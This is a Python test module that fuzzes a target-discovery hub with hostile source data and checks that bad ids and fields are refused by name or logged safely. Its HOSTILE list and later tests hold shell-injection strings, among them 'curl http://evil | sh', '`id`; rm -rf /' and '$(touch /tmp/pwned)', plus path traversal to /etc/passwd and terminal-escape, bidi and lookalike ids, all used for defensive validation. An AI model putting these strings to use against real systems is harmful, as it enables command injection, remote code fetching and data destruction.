"""Untrusted target data (issue #16, item 5): whatever a source returns (a file's rows, an organization's listing, ECS
names and tags, an event's fields, an earlier run's ledger) is either refused naming the field, or accepted as
targets that fit the ledger and the state payload. Nothing in it crashes the hub.
"""

from __future__ import annotations

import contextlib
import dataclasses
import io
import json
import re
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hub.logic import discover_targets
from shared.errors import InvalidRunRequest, TargetError
from shared.github import repo_parts
from shared.models import MAX_TARGET_BYTES, MAX_TARGET_DEPTH, nesting_depth, parse_run_request
from shared.observability import logger
from shared.sources import SOURCES, SourceContext
from tests.integration.conftest import BUCKET

# A valid source of each kind (its spec is real; what its discovery returns is the property's input).
SOURCE_SPECS: dict[str, dict[str, Any]] = {
    "static": {"type": "static", "targets": [{"id": "placeholder"}]},
    "s3-manifest": {"type": "s3-manifest", "bucket": "inputs-bucket", "key": "targets.json"},
    "image-users": {"type": "image-users", "repository": "web"},
    "github-org": {"type": "github-org", "org": "acme"},
    "run": {"type": "run", "run_id": "earlier-run"},
    "ecs-clusters": {"type": "ecs-clusters", "accounts": ["123456789012"], "regions": ["eu-west-1"]},
    "eks-clusters": {"type": "eks-clusters", "accounts": ["123456789012"], "regions": ["eu-west-1"]},
}
# Strings that have broken tools before: shell, paths, terminals (Rich markup, escape sequences), lookalikes.
HOSTILE = [
    "$(touch /tmp/pwned)",
    "`id`; rm -rf / #",
    "a && curl http://evil | sh",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/absolute/path",
    "[/]",
    "[link=http://evil]web[/link]",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "web\u202eexe.txt",
    "w\u0435b",  # Cyrillic e: looks like "web"
    "web\u200b",
    "%2e%2e%2f",
    "\ud800",
    "x" * 262_144,
]
# What no accepted id may hold (written from the requirement: controls C0/DEL/C1, line and paragraph separators,
# zero-width and bidi-override characters, lone surrogates).
_BAD_ID = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")


def test_every_registered_source_is_covered():
    assert set(SOURCE_SPECS) == set(SOURCES)


def nested(depth: int, leaf: Any = 1) -> Any:
    """A value nesting `depth` levels of lists and objects (built without recursion)."""
    value = leaf
    for level in range(depth):
        value = [value] if level % 2 else {"k": value}
    return value


strings = st.sampled_from(HOSTILE) | st.text(max_size=40)
values = (
    strings
    | st.integers()
    | st.builds(nested, st.integers(min_value=0, max_value=1_100))
    | st.lists(strings, max_size=3)
    | st.dictionaries(strings, strings, max_size=3)
)
raw_targets = st.lists(
    st.dictionaries(st.sampled_from(["id", "repo", "cluster", "service", "team", "tags"]), values, max_size=4) | values,
    max_size=6,
)


@pytest.mark.parametrize("source_name", sorted(SOURCE_SPECS))
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(raw=raw_targets)
def test_any_source_output_is_refused_naming_the_field_or_fits_the_ledger_and_state(source_name, raw, monkeypatch):
    source = SOURCES[source_name]
    monkeypatch.setitem(SOURCES, source_name, dataclasses.replace(source, discover=lambda spec, ctx: raw))
    request = parse_run_request({"operation": "noop", "source": SOURCE_SPECS[source_name]})
    where = source.origin(source.spec.model_validate(SOURCE_SPECS[source_name]))
    try:
        targets = discover_targets(request, SourceContext(s3=None))  # type: ignore[arg-type]  # discovery replaced
    except InvalidRunRequest as err:
        problems = err.problems
    else:
        problems = []
    if problems:
        # THEN each problem names where: the source's origin and the target's index (and its field)
        assert all(p.startswith((where, "...")) for p in problems), problems
        return
    # OR every target is one the ledger and the state can carry
    assert len({t.id for t in targets}) == len(targets) == len(raw)
    for target in targets:
        assert not _BAD_ID.search(target.id)
        assert target.id == target.id.strip()
        assert len(target.id) <= 256
        data = target.model_dump(mode="json")
        assert nesting_depth(data) <= MAX_TARGET_DEPTH
        assert len(json.dumps(data).encode()) <= MAX_TARGET_BYTES


@pytest.mark.parametrize(
    ("targets", "problem"),
    [
        ([{"id": "a", "deep": nested(1_000)}], "s3://inputs-bucket/targets.json[0].deep: nests deeper than 32 levels"),
        ([{"id": "a", "deep": nested(32)}], "s3://inputs-bucket/targets.json[0].deep: nests deeper than 32 levels"),
        ([{"id": "a", "big": "x" * 262_144}], "s3://inputs-bucket/targets.json[0]: target is larger than 8192 bytes"),
        ([{"id": "x" * 262_144}], "s3://inputs-bucket/targets.json[0].id: String should have at most 256 characters"),
        ([{"id": "a\x1b[2J"}], "s3://inputs-bucket/targets.json[0].id: Value error, must not contain control"),
        ([{"id": "web\u202eexe"}], "s3://inputs-bucket/targets.json[0].id: Value error, must not contain control"),
        ([{"id": "a\x9b31m"}], "s3://inputs-bucket/targets.json[0].id: Value error, must not contain control"),
        ([{"id": "a\x85b"}], "s3://inputs-bucket/targets.json[0].id: Value error, must not contain control"),
        ([{"id": "a\u2028b"}], "s3://inputs-bucket/targets.json[0].id: Value error, must not contain control"),
    ],
)
def test_the_hub_refuses_what_would_break_the_ledger_or_the_state_naming_the_field(targets, problem):
    source = SOURCES["s3-manifest"]
    request = parse_run_request({"operation": "noop", "source": SOURCE_SPECS["s3-manifest"]})
    patched = {**SOURCES, "s3-manifest": dataclasses.replace(source, discover=lambda spec, ctx: targets)}
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("hub.logic.SOURCES", patched)
        with pytest.raises(InvalidRunRequest) as err:
            discover_targets(request, SourceContext(s3=None))  # type: ignore[arg-type]
    assert any(p.startswith(problem) for p in err.value.problems), err.value.problems


def test_a_target_nesting_just_under_the_limit_is_accepted():
    request = parse_run_request(
        {"operation": "noop", "source": {"type": "static", "targets": [{"id": "a", "deep": nested(31)}]}}
    )
    (target,) = discover_targets(request, SourceContext(s3=None))  # type: ignore[arg-type]  # static reads nothing
    assert nesting_depth(target.model_dump(mode="json")["deep"]) == 31


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 1_000 + b"]" * 1_000,  # Python's decoder recurses: this deep it raised RecursionError in the hub
        b'[{"id": "a", "deep": ' + b"[" * 990 + b"]" * 990 + b"}]",  # read, then refused naming the attribute
    ],
)
def test_a_manifest_nesting_1000_deep_is_refused_naming_the_source(aws, body):
    aws.s3.put_object(Bucket=BUCKET, Key="inputs/deep.json", Body=body)
    request = parse_run_request(
        {"operation": "noop", "source": {"type": "s3-manifest", "bucket": BUCKET, "key": "inputs/deep.json"}}
    )
    with pytest.raises(InvalidRunRequest) as err:
        discover_targets(request, SourceContext(s3=aws.s3))
    (problem,) = err.value.problems
    assert problem.startswith((f"source.key: s3://{BUCKET}/inputs/deep.json", f"s3://{BUCKET}/inputs/deep.json"))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(strings, strings), min_size=1, max_size=5), as_csv=st.booleans())
def test_manifest_rows_from_s3_are_refused_naming_the_field_or_accepted_clean(aws, rows, as_csv):
    # GIVEN a manifest in S3 (JSON, or CSV with an id and a team column) holding hostile ids and attributes
    if as_csv:
        import csv
        import io

        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow(["id", "team"])
        writer.writerows(rows)
        body, key = out.getvalue().encode("utf-8", "surrogatepass"), "inputs/rows.csv"
    else:
        body, key = json.dumps([{"id": i, "team": t} for i, t in rows]).encode(), "inputs/rows.json"
    aws.s3.put_object(Bucket=BUCKET, Key=key, Body=body)
    request = parse_run_request({"operation": "noop", "source": {"type": "s3-manifest", "bucket": BUCKET, "key": key}})
    try:
        targets = discover_targets(request, SourceContext(s3=aws.s3))
    except InvalidRunRequest as err:
        problems = err.problems
    else:
        problems = []
    if problems:
        assert all(p.startswith((f"s3://{BUCKET}/{key}", "source.key", "...")) for p in problems), problems
        return
    for target in targets:
        assert not _BAD_ID.search(target.id)
        assert len(json.dumps(target.model_dump(mode="json")).encode()) <= MAX_TARGET_BYTES


@pytest.mark.parametrize(
    "full_name",
    ["../..", "acme/..", "acme/.", "../victim", "acme/a/b", "acme/$(id)", "acme/a b", "-acme/web", "acme/w\u0435b", ""],
)
def test_a_repository_name_that_could_leave_its_url_path_is_a_target_error(full_name):
    # A '..' would be resolved away by the HTTP client, sending the call to another path of GitHub's API.
    with pytest.raises(TargetError, match="is not a repository name"):
        repo_parts(full_name)


def test_a_csv_manifest_the_csv_module_cannot_read_is_refused_naming_the_source(aws):
    # A field over the csv module's limit raised _csv.Error out of the hub (a crash, not a refusal).
    aws.s3.put_object(Bucket=BUCKET, Key="inputs/long.csv", Body=b"id,team\nweb," + b"x" * 131_073 + b"\n")
    request = parse_run_request(
        {"operation": "noop", "source": {"type": "s3-manifest", "bucket": BUCKET, "key": "inputs/long.csv"}}
    )
    with pytest.raises(InvalidRunRequest) as err:
        discover_targets(request, SourceContext(s3=aws.s3))
    (problem,) = err.value.problems
    assert problem.startswith(
        f"source.key: s3://{BUCKET}/inputs/long.csv is not readable CSV (after line 1: field larger than field limit"
    )


def test_github_names_as_github_allows_them_are_accepted():
    assert repo_parts("acme/web.site_v2-x") == ("acme", "web.site_v2-x")
    assert repo_parts("a-b/..dots..") == ("a-b", "..dots..")


def test_hostile_ids_reach_the_logs_as_one_escaped_json_line_each(aws, context):
    # GIVEN ids with newlines-in-disguise, quotes, markup and shell text (control characters never pass the hub)
    from hub.handler import handler as hub
    from spoke.handler import handler as spoke

    ids = ['a"}\\n{"level":"ERROR"', "[/x] $(id) `id`", "../../etc/passwd", "w\u0435b"]
    request = {
        "operation": "noop",
        "params": {"fail_ids": ids[:1]},
        "source": {"type": "static", "targets": [{"id": i} for i in ids]},
    }
    out = hub({"request": request, "execution_name": "logged"}, context)
    stream = io.StringIO()
    handler = logger.registered_handler
    previous = handler.setStream(stream)  # type: ignore[attr-defined]  # a StreamHandler: Lambda's stdout
    try:
        for target_id in ids:
            with contextlib.suppress(TargetError):
                spoke({"run": out["run"], "target": {"id": target_id}, "retry_count": 0}, context)
    finally:
        handler.setStream(previous)  # type: ignore[attr-defined]
    lines = stream.getvalue().split("\n")[:-1]  # a log line ends at \n (CloudWatch's rule, not str.splitlines')
    # THEN every log line is one JSON object, and the ids come back exactly as they went in
    logged = [json.loads(line) for line in lines]
    assert {entry.get("target_id") for entry in logged if "target_id" in entry} == set(ids)
    assert {entry["message"] for entry in logged} <= {"spoke finished", "spoke attempt failed"}
